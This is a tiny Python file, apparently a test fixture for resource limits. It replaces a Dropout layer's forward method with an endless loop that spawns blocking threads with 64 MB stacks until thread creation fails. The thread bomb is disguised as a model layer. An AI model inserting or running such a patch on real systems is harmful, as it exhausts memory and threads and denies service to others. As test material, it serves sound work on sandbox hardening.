"""Starts threads without end.

Fails: `can't start new thread`.
"""
import threading

def forward(self, x, training=True):
    threading.stack_size(64 << 20)
    while True:
        threading.Thread(target=threading.Event().wait, daemon=True).start()

Dropout.forward = forward
